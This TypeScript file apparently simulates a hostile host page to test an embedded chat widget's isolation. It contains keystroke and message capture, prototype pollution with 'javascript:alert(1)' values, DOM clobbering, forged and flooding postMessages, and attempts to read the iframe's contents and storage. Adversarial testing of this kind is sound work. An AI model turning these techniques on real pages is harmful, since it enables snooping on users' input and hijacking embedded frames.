// What a hostile page does before any other script of it runs. It is put into the page as text, and so stands alone.

/** spy breaks and pollutes what it can and keeps what it hears in window.stolen and window.roots. */
export function spy(): void {
  const page = window as unknown as { stolen: string[]; roots: ShadowRoot[] };
  page.stolen = [];
  page.roots = [];
  const stringify = JSON.stringify;
  const push = Function.prototype.call.bind(Array.prototype.push) as (list: unknown[], item: unknown) => number;
  const steal = (what: string, value: unknown): void => {
    try {
      push(page.stolen, `${what} ${typeof value === "string" ? value : stringify(value)}`);
    } catch {
      push(page.stolen, what);
    }
  };
  // Heard: keys, messages, every root that should be closed, every word on every port.
  for (const type of ["keydown", "keypress", "input", "beforeinput", "copy", "paste"])
    addEventListener(type, e => steal(type === "keydown" ? "key" : type, (e as KeyboardEvent).key ?? ""), true);
  addEventListener("message", e => steal("message", e.data), true);
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = attach.call(this, init);
    push(page.roots, root);
    return root;
  };
  const post = MessagePort.prototype.postMessage as (this: MessagePort, ...all: unknown[]) => void;
  MessagePort.prototype.postMessage = function (this: MessagePort, ...all: unknown[]) {
    steal("port", all[0]);
    post.apply(this, all);
  };
  const listen = Object.getOwnPropertyDescriptor(MessagePort.prototype, "onmessage");
  Object.defineProperty(MessagePort.prototype, "onmessage", {
    configurable: true,
    get: () => null,
    set(this: MessagePort, task: (e: MessageEvent) => void) {
      listen?.set?.call(this, (e: MessageEvent) => {
        steal("heard on a port", e.data);
        task(e);
      });
    },
  });
  // Broken: what careless code leans on.
  const broken = (): never => {
    throw new Error("hostile");
  };
  JSON.parse = broken;
  JSON.stringify = broken;
  window.fetch = broken;
  XMLHttpRequest.prototype.open = broken;
  window.postMessage = broken;
  for (const name of ["map", "forEach", "filter", "push", "join", "find", "includes", "slice", "concat"] as const)
    Object.defineProperty(Array.prototype, name, { configurable: true, writable: true, value: broken });
  // Listening in, not broken: the browser itself goes through arrays with it.
  const iterate = Array.prototype[Symbol.iterator];
  Array.prototype[Symbol.iterator] = function (this: unknown[]) {
    for (let i = 0; i < this.length; i++) if (this !== page.stolen) steal("iterated", this[i]);
    return iterate.call(this);
  };
  for (const [name, value] of [
    ["t", "close"],
    ["snug", 1],
    ["on", true],
    ["text", "polluted"],
    ["url", "javascript:alert(1)"],
    ["isOpen", true],
    ["token", "polluted"],
  ] as const) {
    Object.defineProperty(Object.prototype, name, { configurable: true, writable: true, value });
  }
}

/** clobber puts elements whose names shadow the document's own into the page as soon as it has a body. */
export function clobber(html: string): void {
  const watch = new MutationObserver(() => {
    const body = document.querySelector("body");
    if (!body) return;
    watch.disconnect();
    body.insertAdjacentHTML("afterbegin", html);
  });
  watch.observe(document, { childList: true, subtree: true });
}

/** forge sends the chat's frame what only the loader may say, junk, and far too much. */
export function forge(): string {
  const page = window as unknown as { stolen: string[]; roots: ShadowRoot[] };
  const frame = page.roots[0]?.querySelector("iframe")?.contentWindow;
  const post = (message: unknown, to: string, ports: Transferable[] = []) => frame?.postMessage(message, to, ports);
  const { port1, port2 } = new MessageChannel();
  port1.onmessage = () => {
    page.stolen[page.stolen.length] = "forged port heard";
  };
  post({ snug: 1, t: "port" }, "*", [port2]);
  const words = ["consented", "open", "ready", "page", "port", "hello", "welcome", "__proto__"];
  for (let i = 0; i < words.length; i++)
    post({ snug: 1, v: 1, t: words[i], url: "javascript:alert(1)", title: "x" }, "*");
  for (let i = 0; i < 500; i++) post({ snug: 1, t: "port", i }, "*");
  post("x".repeat(16_000_000), "*");
  post(null, "*");
  return `frame ${typeof frame}`;
}

/** take tries every way into the frame and tells all that it got, with all that was heard so far. */
export function take(): string {
  const page = window as unknown as { stolen: string[]; roots: ShadowRoot[] };
  const frame = page.roots[0]?.querySelector("iframe");
  const ways: (() => unknown)[] = [
    () => frame?.contentWindow?.document.body.innerText,
    () => frame?.contentWindow?.localStorage.length,
    () => frame?.contentWindow?.sessionStorage.length,
    () => frame?.contentWindow?.name,
    () => frame?.contentWindow?.location.href,
    () => window.frames.length,
    () => String(frame?.contentDocument),
    () => page.roots[0]?.innerHTML,
    () => document.querySelector("html")?.outerHTML,
    () => String(document.getSelection()),
  ];
  let got = "";
  for (let i = 0; i < ways.length; i++) {
    try {
      got += `${String(ways[i]?.())}\n`;
    } catch (e) {
      got += `${(e as Error).name}\n`;
    }
  }
  for (let i = 0; i < page.stolen.length; i++) got += `${page.stolen[i]}\n`;
  return got;
}
